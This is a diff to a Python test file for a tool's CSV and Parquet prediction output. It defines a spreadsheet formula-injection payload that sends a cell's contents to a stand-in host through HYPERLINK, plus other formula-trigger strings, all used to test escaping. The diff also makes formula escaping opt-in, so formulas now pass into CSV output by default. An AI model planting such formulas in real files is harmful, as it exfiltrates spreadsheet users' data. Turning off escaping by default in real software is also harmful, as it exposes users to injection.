@@ -1,7 +1,9 @@
 """The command ``predict``: the same answers however a table comes, and one sentence else."""
 
+import datetime as dt
 import gzip
 import json
+from decimal import Decimal
 from functools import partial
 
 import numpy as np
@@ -15,7 +17,7 @@ from sklearn.naive_bayes import GaussianNB
 import vennforest
 from support.commands import refused, run
 from vennforest.persistence import read_header
-from vennforest.tables.files import TableFile, all_as_text, as_text
+from vennforest.tables.files import TableFile, table_as_text, without_formula
 
 TARGET = "what happened"
 CLASSES = ["1e3", "lower", "no way", "yes "]
@@ -253,29 +255,29 @@ def test_a_table_is_read_predicted_and_written_in_parts(folder, tmp_path, monkey
             n_read += 1
             yield batch
 
-    def as_text(table):
+    def as_text(table, escape_formulas):
         n_read_when_writing.append(n_read)
-        return all_as_text(table)
+        return table_as_text(table, escape_formulas)
 
     monkeypatch.setattr(TableFile, "batches", counted)
-    monkeypatch.setattr("vennforest.commands.predict.all_as_text", as_text)
+    monkeypatch.setattr("vennforest.commands.predict.table_as_text", as_text)
     read_csv(folder / "new.csv").to_parquet(tmp_path / "n.parquet", row_group_size=10)
     assert run(*predict(folder, tmp_path / "p.csv", data=tmp_path / "n.parquet")) == 0
     assert n_read_when_writing == list(range(14))  # the header, and each row group
 
 
-# Spreadsheet programs take some text for formulas: an apostrophe goes before it in CSV.
+# Spreadsheet programs take some text for formulas.
 FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'
 FORMULAS = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "+41 79 1", "-", "-x"]
 NO_FORMULAS = ["-5", "+5.5", "-1e-300", " -5", "", "x=1", "a-b", "'=1", "-inf"]
 
 
 def test_an_apostrophe_goes_before_a_formula():
-    assert [*map(as_text, FORMULAS)] == ["'" + text for text in FORMULAS]
-    assert [*map(as_text, NO_FORMULAS)] == NO_FORMULAS
+    assert [*map(without_formula, FORMULAS)] == ["'" + text for text in FORMULAS]
+    assert [*map(without_formula, NO_FORMULAS)] == NO_FORMULAS
 
 
-def test_an_output_of_text_holds_no_formula(tmp_path):
+def test_formulas_are_escaped_only_where_that_is_asked_for(tmp_path):
     rng = np.random.default_rng(0)
     x = rng.normal(size=60)
     frame = pd.DataFrame({"x": x, "@id": [FORMULA, "-5", None, "plain"] * 15})
@@ -290,6 +292,10 @@ def test_an_output_of_text_holds_no_formula(tmp_path):
     for data in ("d.csv", "d.parquet", "view.parquet"):
         command = ["predict", tmp_path / "m.skops", tmp_path / data, "--id", "@id", "-o"]
         assert run(*command, tmp_path / "p.csv") == 0
+        unchanged = pd.read_csv(tmp_path / "p.csv", dtype=str)
+        assert unchanged["@id"].iloc[:4].fillna("").tolist() == [FORMULA, "-5", "", "plain"]
+        assert set(unchanged["label"]) <= {"=yes", "-no"}
+        assert run(*command, tmp_path / "p.csv", "--escape-formulas") == 0
         escaped = pd.read_csv(tmp_path / "p.csv", dtype=str)
         assert escaped["'@id"].iloc[:4].fillna("").tolist() == ["'" + FORMULA, "-5", "", "plain"]
         assert set(escaped["label"]) <= {"'=yes", "'-no"}
@@ -297,3 +303,64 @@ def test_an_output_of_text_holds_no_formula(tmp_path):
         plain = pd.read_parquet(tmp_path / "p.parquet")  # text as it is
         assert plain["@id"].iloc[0] == FORMULA
         assert escaped["label"].tolist() == ["'" + label for label in plain["label"]]
+
+
+def carried_table(n):
+    """Return a table of a score, a label and columns whose values no float or text type holds."""
+    rng = np.random.default_rng(3)
+    score = rng.random(n)
+    rows = range(n)
+    days = [dt.date(2024, 1, 1) + dt.timedelta(days=i) for i in rows]
+    return pa.table({
+        "s": score,
+        "y": np.where(rng.random(n) < score, "-", "+"),
+        "decimal": pa.array([Decimal(9007199254740993 + i) for i in rows], pa.decimal128(38, 0)),
+        "cents": pa.array([Decimal(i).scaleb(-2) for i in rows], pa.decimal128(20, 2)),
+        "ns": pa.array([1704067200123456789 + i for i in rows], pa.timestamp("ns")),
+        "zone": pa.array([1704067200123456 + i for i in rows], pa.timestamp("us", "Asia/Tokyo")),
+        "day": pa.array(days),
+        "list": pa.array([[i, None] for i in rows]),
+        "struct": pa.array([{"a": i, "b": day} for i, day in zip(rows, days, strict=True)]),
+        "dictionary": pa.array([f"-{i % 3} to 0" for i in rows]).dictionary_encode(),
+        "big": pa.array([2**63 + i for i in rows], pa.uint64()),
+        "float": pa.array([0.1 + i for i in rows]),
+        "flag": pa.array([None if i == 2 else i % 2 == 0 for i in rows]),
+        "lasts": pa.array([1500 + i for i in rows], pa.duration("ms")),
+        "bytes": pa.array([b"\xff" if i else b"a" for i in rows]),
+    })  # fmt: skip
+
+
+def test_carried_columns_keep_type_and_value_in_parquet_and_every_digit_in_csv(tmp_path):
+    table = carried_table(60)
+    pq.write_table(table, tmp_path / "t.parquet")
+    with pa.ipc.new_file(tmp_path / "t.arrow", table.schema) as writer:
+        writer.write_table(table)
+    calibrator = ("calibrate", tmp_path / "t.parquet", "-s", "s", "-t", "y")
+    assert run(*calibrator, "-o", tmp_path / "c.json") == 0
+    for name in ("t.parquet", "t.arrow"):
+        command = ("apply", tmp_path / "c.json", tmp_path / name, "-o")
+        assert run(*command, tmp_path / "o.parquet") == 0
+        carried = pq.read_table(tmp_path / "o.parquet").select(table.column_names)
+        assert carried.equals(table)
+        assert run(*command, tmp_path / "o.csv") == 0
+        cells = pd.read_csv(tmp_path / "o.csv", dtype=str, keep_default_na=False).iloc[2]
+        assert cells.to_dict() | {
+            "decimal": "9007199254740995", "cents": "0.02", "day": "2024-01-03",
+            "ns": "2024-01-01T00:00:00.123456791", "zone": "2024-01-01T09:00:00.123458+09:00",
+            "list": "[2, null]", "struct": '{"a": 2, "b": "2024-01-03"}', "big": str(2**63 + 2),
+            "dictionary": "-2 to 0", "float": "2.1", "flag": "", "lasts": "1.502",
+            "bytes": "\\xff", "label": pq.read_table(tmp_path / "o.parquet")["label"][2].as_py(),
+        } == cells.to_dict()  # fmt: skip
+        flags = pd.read_csv(tmp_path / "o.csv", dtype=str)["flag"]
+        assert flags[:2].tolist() == ["True", "False"]
+
+
+def test_carried_text_of_csv_is_that_of_the_file(tmp_path):
+    rng = np.random.default_rng(4)
+    cells = ["007", "1.0", "1", "TRUE", "true", " NA", "NULL", "1e3", "9007199254740993", "'x", ""]
+    frame = pd.DataFrame({"s": rng.random(44), "y": ["0", "1"] * 22, "cell": cells * 4})
+    frame.to_csv(tmp_path / "t.csv", index=False)
+    assert run("calibrate", tmp_path / "t.csv", "-s", "s", "-t", "y", "-o", tmp_path / "c") == 0
+    assert run("apply", tmp_path / "c", tmp_path / "t.csv", "-o", tmp_path / "o.csv") == 0
+    written = pd.read_csv(tmp_path / "o.csv", dtype=str, keep_default_na=False)
+    assert written["cell"].tolist() == cells * 4
